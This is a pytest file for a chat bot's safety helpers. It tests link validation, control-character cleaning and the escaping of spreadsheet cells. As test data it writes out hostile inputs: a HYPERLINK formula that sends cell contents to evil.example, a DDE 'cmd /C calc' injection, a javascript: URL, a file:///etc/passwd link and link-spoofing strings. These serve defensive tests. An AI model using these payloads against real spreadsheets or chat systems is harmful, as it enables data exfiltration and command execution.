"""Links that are only links; text cleaned on the way in and neutralised on the way out."""

from __future__ import annotations

import pytest

from bot.safety.links import MAX_LINK, link_host, link_problem
from bot.safety.text import clean_text, spreadsheet_text


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/slides.pdf",
        "http://intranet.somerset.example/minutes?id=3&v=2#p4",
        "https://sharepoint.example.com/sites/DHR/Shared%20Documents/Lily.docx",
        "https://example.org:8443/a",
    ],
)
def test_links_that_are_links(url: str) -> None:
    assert link_problem(url) is None


@pytest.mark.parametrize(
    "url",
    [
        "https://ok.example/>*<!channel>*<https://evil.example/login",
        "https://evil.example|Click here",
        "<https://evil.example|label>",
        "https://ok.example/<@U123>",
        "https://ok.example/a b",
        "https://ok.example/\x07",
        "javascript:alert(1)",
        "ftp://files.example.org/x",
        "file:///etc/passwd",
        "https://",
        "https://localhost/x",
        "https://user:secret@example.org/",
        "https://example.org/" + "a" * MAX_LINK,
        'https://example.org/"onmouseover',
        "https://example.org:99999/",
    ],
)
def test_links_that_are_refused(url: str) -> None:
    assert link_problem(url)


def test_host_shown_beside_the_label() -> None:
    assert link_host("https://www.example.org/path") == "example.org"
    assert link_host("https://docs.example.co.uk/x") == "docs.example.co.uk"


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("line one\vline two", "line one\nline two"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("page\fbreak", "page\nbreak"),
        ("para\u2028graph", "para\ngraph"),
        ("bell\x07 and null\x00 and esc\x1b[31m", "bell and null and esc[31m"),
        ("tab\tkept", "tab\tkept"),
        ("c1\x85next\x9b", "c1\nnext"),
        ("plain", "plain"),
    ],
)
def test_clean_text(typed: str, stored: str) -> None:
    assert clean_text(typed) == stored


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
            '\'=HYPERLINK("https://evil.example/?d="&A2,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("＝1+1", "'＝1+1"),
        ("Done on 3 March", "Done on 3 March"),
        ("note with = inside", "note with = inside"),
    ],
)
def test_spreadsheet_text(value: str, cell: str) -> None:
    assert spreadsheet_text(value) == cell
